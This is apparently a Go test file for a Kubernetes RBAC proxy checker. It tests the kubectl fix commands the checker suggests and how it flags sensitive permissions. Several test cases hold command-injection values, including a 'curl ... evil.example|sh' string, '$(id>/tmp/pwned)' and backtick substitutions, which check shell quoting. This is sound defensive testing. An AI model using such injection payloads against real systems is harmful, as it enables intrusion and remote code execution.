package check

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"

	cmmeta "github.com/cert-manager/cert-manager/pkg/apis/meta/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/rbac-proxy/rbac-proxy/webhook/inject"
)

// TestAccess: ProxyCannotReview from webhook.AccessChecker's reviews of the Pod's
// ServiceAccount, ScraperForbidden from each --scraper's review of what the proxy asks.
func TestAccess(t *testing.T) {
	d := testDefaults(t)
	prometheus, err := ParseScraper("system:serviceaccount:monitoring:prometheus")
	if err != nil {
		t.Fatal(err)
	}
	allowAll := func(authorizationv1.SubjectAccessReviewSpec) (bool, error) { return true, nil }
	for _, tc := range []struct {
		name        string
		annotations map[string]string
		allow       func(authorizationv1.SubjectAccessReviewSpec) (bool, error)
		findings    []string
		fix         string
		message     string
		unchecked   []Code
	}{{
		name:     "every right",
		allow:    allowAll,
		findings: []string{},
	}, {
		name: "ServiceAccount without auth-delegator",
		allow: func(s authorizationv1.SubjectAccessReviewSpec) (bool, error) {
			return !strings.HasPrefix(s.User, "system:serviceaccount:gpu:"), nil
		},
		findings: []string{"ProxyCannotReview ServiceAccount/default"},
		message:  "tokenreviews.authentication.k8s.io, subjectaccessreviews.authorization.k8s.io",
		fix:      "kubectl create clusterrolebinding rbac-proxy-gpu-default --clusterrole=system:auth-delegator --serviceaccount=gpu:default",
	}, {
		name:        "authz static makes no SubjectAccessReviews",
		annotations: map[string]string{inject.AnnotationAuthz: "static", inject.AnnotationAllowedClients: "system:serviceaccount:monitoring:prometheus"},
		allow: func(s authorizationv1.SubjectAccessReviewSpec) (bool, error) {
			return s.ResourceAttributes == nil || s.ResourceAttributes.Resource != "subjectaccessreviews", nil
		},
		findings: []string{},
	}, {
		name: "scraper may not get /metrics",
		allow: func(s authorizationv1.SubjectAccessReviewSpec) (bool, error) {
			return s.NonResourceAttributes == nil, nil
		},
		findings: []string{"ScraperForbidden ServiceAccount/prometheus"},
		message:  "may not get /metrics",
		fix:      "kubectl create clusterrole rbac-proxy-metrics-reader --verb=get --non-resource-url=/metrics && kubectl create clusterrolebinding rbac-proxy-metrics-reader-monitoring-prometheus --clusterrole=rbac-proxy-metrics-reader --serviceaccount=monitoring:prometheus",
	}, {
		name:        "scraper may not get the resource",
		annotations: map[string]string{inject.AnnotationResourceAttributes: "namespace=gpu,resource=services,subresource=metrics,name=dcgm"},
		allow: func(s authorizationv1.SubjectAccessReviewSpec) (bool, error) {
			ra := s.ResourceAttributes
			return s.User != prometheus.User || ra.Resource != "services" || ra.Subresource != "metrics" || ra.Name != "dcgm" || ra.Verb != "get", nil
		},
		findings: []string{"ScraperForbidden ServiceAccount/prometheus"},
		message:  "may not get services/metrics dcgm in namespace gpu",
		fix:      "kubectl create role rbac-proxy-scrape-services -n gpu --verb=get --resource=services/metrics --resource-name=dcgm && kubectl create rolebinding rbac-proxy-scrape-services -n gpu --role=rbac-proxy-scrape-services --serviceaccount=monitoring:prometheus",
	}, {
		name:        "scraper of a tenancy proxy",
		annotations: map[string]string{inject.AnnotationTenancy: "namespace"},
		allow: func(s authorizationv1.SubjectAccessReviewSpec) (bool, error) {
			return s.NonResourceAttributes == nil, nil
		},
		findings: []string{"ScraperForbidden ServiceAccount/prometheus"},
		message:  "it gets only the series of the namespaces it may read (tenancy namespace)",
		fix:      "kubectl create clusterrole rbac-proxy-metrics-reader --verb=get --non-resource-url=/metrics && kubectl create clusterrolebinding rbac-proxy-metrics-reader-monitoring-prometheus --clusterrole=rbac-proxy-metrics-reader --serviceaccount=monitoring:prometheus",
	}, {
		name: "no right to ask",
		allow: func(authorizationv1.SubjectAccessReviewSpec) (bool, error) {
			return false, apierrors.NewForbidden(schema.GroupResource{Group: "authorization.k8s.io", Resource: "subjectaccessreviews"}, "", errors.New("no"))
		},
		findings:  []string{},
		unchecked: []Code{CodeProxyCannotReview, CodeScraperForbidden},
	}} {
		t.Run(tc.name, func(t *testing.T) {
			ann := map[string]string{inject.AnnotationInject: "true"}
			for k, v := range tc.annotations {
				ann[k] = v
			}
			dep, rs := deployment("dcgm", appTemplate(nil, ann))
			s := snapshotOf(namespace(nil), dep, rs, podOf(t, d, dep, rs, "a", true, ""), certificate("dcgm", cmmeta.ConditionTrue, "Ready"))
			r := (&Checker{Defaults: d, Scrapers: []Scraper{prometheus}, Reviews: reviews(tc.allow)}).Check(context.Background(), s)
			if got := findingKeys(r); !slices.Equal(got, tc.findings) {
				t.Fatalf("findings %v, want %v: %+v", got, tc.findings, r.Findings)
			}
			if len(r.Findings) > 0 {
				f := r.Findings[0]
				if !strings.Contains(f.Message, tc.message) || f.Fix != tc.fix || f.Workload == nil || f.Workload.Name != "dcgm" || f.Severity != SeverityError {
					t.Errorf("finding %+v, want message with %q, fix %q, workload dcgm", f, tc.message, tc.fix)
				}
			}
			var unchecked []Code
			for _, u := range r.Unchecked {
				unchecked = append(unchecked, u.Check)
			}
			if !slices.Equal(unchecked, tc.unchecked) {
				t.Errorf("unchecked %+v, want %v", r.Unchecked, tc.unchecked)
			}
		})
	}
}

// TestParseScraper: a ServiceAccount gets the groups of its tokens, any other user
// system:authenticated.
func TestParseScraper(t *testing.T) {
	s, err := ParseScraper("system:serviceaccount:monitoring:prometheus")
	if err != nil || !slices.Equal(s.Groups, []string{"system:serviceaccounts", "system:serviceaccounts:monitoring", "system:authenticated"}) || s.ServiceAccount != "prometheus" {
		t.Errorf("%+v %v", s, err)
	}
	s, err = ParseScraper("prometheus-client-cert")
	if err != nil || !slices.Equal(s.Groups, []string{"system:authenticated"}) {
		t.Errorf("%+v %v", s, err)
	}
	for _, bad := range []string{"", "a b", "system:serviceaccount:monitoring", "system:serviceaccount:Bad_NS:x"} {
		if _, err := ParseScraper(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

// TestScraperGrant: the fix of ScraperForbidden grants only a right of the workload's own
// namespace that reads metrics, with every value the template names quoted for the shell; for a
// sensitive or cross-namespace right it names the annotation to review, and no command.
func TestScraperGrant(t *testing.T) {
	d := testDefaults(t)
	prometheus, err := ParseScraper("system:serviceaccount:monitoring:prometheus")
	if err != nil {
		t.Fatal(err)
	}
	const review = "review rbac-proxy.io/resource-attributes of Deployment gpu/dcgm: "
	for _, tc := range []struct {
		name, key, value string
		fix, message     string
	}{{
		name: "a subresource of the workload's namespace", key: inject.AnnotationResourceAttributes, value: "namespace=gpu,resource=services,subresource=metrics,name=dcgm",
		fix: "kubectl create role rbac-proxy-scrape-services -n gpu --verb=get --resource=services/metrics --resource-name=dcgm && kubectl create rolebinding rbac-proxy-scrape-services -n gpu --role=rbac-proxy-scrape-services --serviceaccount=monitoring:prometheus",
	}, {
		name: "every Secret of the cluster", key: inject.AnnotationResourceAttributes, value: "resource=secrets",
		fix: review, message: "names no namespace, so the right is one in every namespace, a sensitive right",
	}, {
		name: "Secrets of another namespace", key: inject.AnnotationResourceAttributes, value: "resource=secrets,namespace=kube-system",
		fix: review, message: "names namespace kube-system, not the workload's gpu",
	}, {
		name: "Secrets of its own namespace", key: inject.AnnotationResourceAttributes, value: "resource=secrets,namespace=gpu",
		fix: review, message: "names secrets, which gives more than metrics",
	}, {
		name: "exec into Pods", key: inject.AnnotationResourceAttributes, value: "resource=pods,subresource=exec,namespace=gpu",
		fix: review, message: "names pods/exec, which gives more than metrics",
	}, {
		name: "a proxy to nodes", key: inject.AnnotationResourceAttributes, value: "resource=nodes,subresource=proxy",
		fix: review,
	}, {
		name: "a command in a resource name", key: inject.AnnotationResourceAttributes, value: "resource=pods,namespace=gpu,name=x;curl${IFS}-s${IFS}evil.example|sh;#",
		fix: review, message: "names no resource as the API server spells one",
	}, {
		name: "a command substitution as the resource", key: inject.AnnotationResourceAttributes, value: "resource=$(id>/tmp/pwned),namespace=gpu",
		fix: review, message: "names no resource as the API server spells one",
	}, {
		name: "backticks in the namespace", key: inject.AnnotationResourceAttributes, value: "resource=pods,namespace=a`id`",
		fix: review, message: "not the workload's gpu",
	}, {
		name: "the default path", key: inject.AnnotationAllowPaths, value: "/metrics",
		fix: "kubectl create clusterrole rbac-proxy-metrics-reader --verb=get --non-resource-url=/metrics && kubectl create clusterrolebinding rbac-proxy-metrics-reader-monitoring-prometheus --clusterrole=rbac-proxy-metrics-reader --serviceaccount=monitoring:prometheus",
	}, {
		name: "the path scrape-config scrapes: /metrics when allowed, not the first entry", key: inject.AnnotationAllowPaths, value: "/gpu,/metrics",
		fix: "kubectl create clusterrole rbac-proxy-metrics-reader --verb=get --non-resource-url=/metrics && kubectl create clusterrolebinding rbac-proxy-metrics-reader-monitoring-prometheus --clusterrole=rbac-proxy-metrics-reader --serviceaccount=monitoring:prometheus",
	}, {
		name: "a path with a command in it", key: inject.AnnotationAllowPaths, value: "/metrics;$(id)",
		fix: "kubectl create clusterrole rbac-proxy-metrics-reader --verb=get '--non-resource-url=/metrics;$(id)' && kubectl create clusterrolebinding",
	}, {
		name: "the API server's logs", key: inject.AnnotationAllowPaths, value: "/logs/kube-apiserver.log",
		fix: "review rbac-proxy.io/allow-paths of Deployment gpu/dcgm: ", message: "is also a path of the API server's, a sensitive right",
	}} {
		t.Run(tc.name, func(t *testing.T) {
			dep, rs := deployment("dcgm", appTemplate(nil, map[string]string{inject.AnnotationInject: "true", tc.key: tc.value}))
			s := snapshotOf(namespace(nil), dep, rs, podOf(t, d, dep, rs, "a", true, ""), certificate("dcgm", cmmeta.ConditionTrue, "Ready"))
			r := (&Checker{Defaults: d, Scrapers: []Scraper{prometheus}, Reviews: reviews(func(s authorizationv1.SubjectAccessReviewSpec) (bool, error) {
				return s.User != prometheus.User, nil
			})}).Check(context.Background(), s)
			if got := findingKeys(r); !slices.Equal(got, []string{"ScraperForbidden ServiceAccount/prometheus"}) {
				t.Fatalf("findings %v: %+v", got, r)
			}
			f := r.Findings[0]
			if !strings.HasPrefix(f.Fix, tc.fix) || !strings.Contains(f.Message, tc.message) {
				t.Errorf("fix %q\nwant it to start %q; message %q, want %q in it", f.Fix, tc.fix, f.Message, tc.message)
			}
			if strings.HasPrefix(tc.fix, "review") && strings.Contains(f.Fix, "kubectl") {
				t.Errorf("fix %q grants what the template names", f.Fix)
			}
		})
	}
}

// TestFixesQuoted: every fix line built from an object's name quotes it for the shell.
func TestFixesQuoted(t *testing.T) {
	d := testDefaults(t)
	tmpl := appTemplate(nil, map[string]string{inject.AnnotationInject: "true", inject.AnnotationDNSNames: "dcgm.gpu.svc"})
	tmpl.Spec.ServiceAccountName = "sa;id"
	dep, rs := deployment("x$(id)", tmpl)
	exporter := appTemplate(nil, nil)
	exporter.Spec.Containers[0].Image = "nvcr.io/nvidia/k8s/dcgm-exporter:4.1"
	plain, plainRS := deployment("y`id`", exporter)
	s := snapshotOf(namespace(nil), dep, rs, podOf(t, d, dep, rs, "a", false, ""), podOf(t, d, dep, rs, "b", true, ""), plain, plainRS, podOf(t, d, plain, plainRS, "a", false, ""))
	r := (&Checker{Defaults: d, Reviews: reviews(func(authorizationv1.SubjectAccessReviewSpec) (bool, error) { return false, nil })}).Check(context.Background(), s)
	want := map[Code]string{
		CodeNotInjected:         "kubectl rollout restart 'deployment/x$(id)' -n gpu",
		CodeProxyCannotReview:   "kubectl create clusterrolebinding 'rbac-proxy-gpu-sa;id' --clusterrole=system:auth-delegator '--serviceaccount=gpu:sa;id'",
		CodeCertificateNotReady: "kubectl describe certificate 'rbac-proxy-deployment-x$(id)' -n gpu (",
		CodeUnprotectedExporter: `kubectl label namespace gpu rbac-proxy.io/inject=enabled, or set rbac-proxy.io/inject: "true" in spec.template.metadata.annotations; then kubectl rollout restart 'deployment/y` + "`id`' -n gpu",
	}
	for _, f := range r.Findings {
		if w, ok := want[f.Code]; !ok || !strings.HasPrefix(f.Fix, w) {
			t.Errorf("%s fix %q, want it to start %q", f.Code, f.Fix, w)
		}
		delete(want, f.Code)
	}
	if len(want) > 0 {
		t.Errorf("no findings %v: %+v", want, r.Findings)
	}
}
